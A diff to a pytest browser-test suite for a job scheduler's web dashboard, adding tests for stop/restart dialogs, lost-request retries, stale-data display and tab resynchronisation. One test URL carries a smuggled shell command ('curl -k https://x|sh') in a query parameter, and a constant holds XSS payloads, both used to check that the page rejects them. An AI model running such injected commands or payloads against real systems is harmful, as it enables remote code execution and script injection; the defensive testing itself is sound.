@@ -11,9 +11,10 @@ from urllib.parse import quote
 import argon2
 import pytest
 
-from builders import job
+from builders import job, offer
 from chromium import Browser, Page, browser
 from daqsched import passwords
+from daqsched.engine import events
 from daqsched.serve.pages import BUILT, FILES
 from daqsched.spec import Spec
 from login_page import CONTRAST, breaches, log_in
@@ -29,6 +30,21 @@ FAULTS = "axe.run().then(({violations}) => violations.map(({id, impact, nodes}) 
 
 FILLED = "document.querySelector('.grid [data-state], .story .now')"
 HOSTILE = "<img src=x onerror=alert(1)><script>alert(1)</script>\"'><svg onload=alert(1)> javascript:alert(1)"
+
+#: A tab that hears no changes of another one, and whose first board is cut off.
+DEAF = """{
+  window.boards = 0;
+  const real = window.fetch;
+  window.fetch = async (...asked) => {
+    const answer = await real(...asked);
+    if (String(asked[0]) !== '/v1/board' || window.boards++) return answer;
+    return new Response((await answer.text()).slice(0, -20), { status: 200 });
+  };
+  const set = Object.getOwnPropertyDescriptor(BroadcastChannel.prototype, 'onmessage').set;
+  Object.defineProperty(BroadcastChannel.prototype, 'onmessage', {
+    set(heard) { set.call(this, (event) => event.data.kind !== 'delta' && heard(event)); },
+  });
+}"""
 
 pytestmark = pytest.mark.skipif(
     not BUILT.exists(), reason="there is no Node.js, which scripts/web says, and so no page of the farm"
@@ -107,6 +123,12 @@ def test_the_address_has_the_filter_in_the_words_of_the_command_line(pair: Pair,
     page.wait("document.querySelector('#meant').textContent === '5 of 36 are meant'")
     assert page.js("document.querySelector('#q').value") == "readout@hlt0[2-4] evb@*1"
     assert page.text(".filter code") == "daqsched status 'readout@hlt0[2-4]' 'evb@*1'"
+    # of what somebody put into a link, states are those that there are
+    page.open(f"{pair.web.url}/?q=readout&state=FAILED;curl+-k+https://x|sh+%23&state=WAITING&state=STARTING&rows=jobs")
+    page.wait("document.querySelector('.filter code')")
+    assert page.text(".filter code") == "daqsched status readout --state WAITING,STARTING"
+    page.open(f"{pair.web.url}/?q=readout@hlt0[2-4]%20evb@*1&rows=jobs")
+    page.wait("document.querySelector('[role=rowheader]')")
     heads = page.js("[...document.querySelectorAll('[role=rowheader]')].map((one) => one.textContent)")
     assert heads == ["evb", "readout"]
     page.js("document.body.focus()")
@@ -203,6 +225,57 @@ def test_a_shifter_stops_and_starts_what_is_selected(crew: Pair, page: Page) -> 
     assert not breaches(page)
 
 
+def test_what_the_daemon_counts_can_be_agreed_to(crew: Pair, page: Page) -> None:
+    """More run than when it was asked: it refuses, the dialog has its number, and whoever reads that may go on."""
+    opened(page, crew.web.url, "/?q=readout")
+    page.js("document.querySelector('.filter [data-verb=stop]').click()")
+    page.wait("document.querySelector('dialog code')?.textContent.includes('--stops 1')")
+    crew.web.serve.daemon.put(events.OffersArrived((offer("hlt02"),)))
+    crew.web.serve.settle()
+    page.js("document.querySelector('#act').click()")
+    page.wait("document.querySelector('dialog code').textContent.includes('--stops 2')")
+    assert "2 of them may run now, and end." in page.text("dialog") and page.text("dialog .notice.bad")
+    assert {row.state for row in crew.web.serve.client.status(["readout"]).rows} == {"STARTING"}
+    page.js("document.querySelector('#act').click()")
+    page.wait("document.querySelector('.acts [role=status]')?.textContent === 'Done for 2.'")
+    # that is said of these words alone
+    page.js("document.querySelector('#all').click()")
+    page.wait("location.search === ''")
+    page.js("document.querySelector('#q').focus()")
+    page.type("readout@hlt01")
+    page.wait("document.querySelector('.filter [data-verb=stop]')")
+    assert page.js("document.querySelector('.acts [role=status]')") is None
+    assert not breaches(page)
+
+
+def test_an_answer_that_is_lost_is_asked_for_again_and_nothing_is_done_twice(crew: Pair, page: Page) -> None:
+    """With the same key; while it is asked nobody gets out of the dialog."""
+    opened(page, crew.web.url, "/?q=readout@hlt01")
+    page.js("""{
+      const real = window.fetch;
+      let lost = 0;
+      window.fetch = async (...asked) => {
+        const answer = await real(...asked);
+        if (String(asked[0]) !== '/v1/restart' || lost++) return answer;
+        await new Promise((done) => (window.lose = done));
+        throw new TypeError('lost');
+      };
+    }""")
+    page.js("document.querySelector('.filter [data-verb=restart]').click()")
+    page.wait("document.querySelector('#act')")
+    assert "one host after another" in page.text("dialog")
+    page.js("document.querySelector('#act').click()")
+    page.wait("window.lose")
+    for _ in range(3):
+        page.press("Escape")
+    assert page.js("document.querySelector('dialog').open && document.querySelector('dialog .plain').disabled")
+    page.js("window.lose()")
+    page.wait("document.querySelector('dialog .notice.bad')")
+    page.js("document.querySelector('#act').click()")
+    page.wait("document.querySelector('.acts [role=status]')?.textContent.startsWith('It is under way')")
+    assert not breaches(page)
+
+
 def test_what_the_daemon_refuses_is_said_and_changes_nothing(crew: Pair, page: Page) -> None:
     """Here of a right that went while the question stood there; a viewer is shown no buttons."""
     opened(page, crew.web.url, "/i/readout@hlt01")
@@ -230,6 +303,12 @@ def test_a_daemon_that_is_gone_is_told_of_and_the_next_one_is_followed(tmp_path:
     page.js("{ const real = Date.now; Date.now = () => real() + 40000; }")
     page.wait("document.querySelector('main.stale') && document.querySelector('#age').textContent.startsWith('OLD: ')")
     assert page.js("document.querySelectorAll('.grid [data-state]').length") == 12
+    # all of it is grey, and how old it is stays in sight
+    bright = "[...document.querySelectorAll('main > :not(.spoken)')].filter((one) => getComputedStyle(one).filter === 'none')"
+    assert (
+        page.js(f"{bright}.length") == 0
+        and page.js("getComputedStyle(document.querySelector('header')).position") == "sticky"
+    )
     second = WebServe(tmp_path, RULES, tmp_path / "passwords", port=int(first.url.rpartition(":")[2]))
     try:
         second.serve.client.stop(["readout@hlt0*"], "beam dump")
@@ -262,6 +341,29 @@ def test_tabs_share_one_stream(pair: Pair, chromium: Browser, page: Page) -> Non
     for one in others:
         one.wait(f"{counted('STOPPED')} === 24")
         one.close()
+
+
+def test_a_tab_that_missed_something_comes_to_know_it(pair: Pair, chromium: Browser, page: Page) -> None:
+    """By the next sign of life of the tab that reads; with the rights of whoever looks by then. A board that was cut off is
+    asked for again."""
+    opened(page, pair.web.url)
+    deaf = chromium.tab()
+    deaf.call("Page.addScriptToEvaluateOnNewDocument", source=DEAF)
+    deaf.open(pair.web.url)
+    deaf.wait(FILLED)
+    assert deaf.js("window.boards") == 2
+    assert "alice, viewer" in deaf.text("header")
+    (pair.web.folder / "rights.yaml").write_text(RULES.replace("viewer", "shifter"))
+    pair.web.serve.client.stop(["monitor"], "beam dump")
+    page.wait(f"{counted('STOPPED')} === 12")
+    deaf.wait(f"{counted('STOPPED')} === 12")
+    deaf.wait("document.querySelector('header').innerText.includes('shifter')")
+    assert "live, " in deaf.text("#age")
+    # a clock that runs backwards tells no age
+    deaf.js("{ const real = Date.now; let by = 0; Date.now = () => real() - (by += 5000); }")
+    deaf.wait("document.querySelector('#age').textContent.startsWith('OLD: ') && document.querySelector('main.stale')")
+    assert not breaches(deaf)
+    deaf.close()
 
 
 @pytest.mark.parametrize("dark", [False, True])
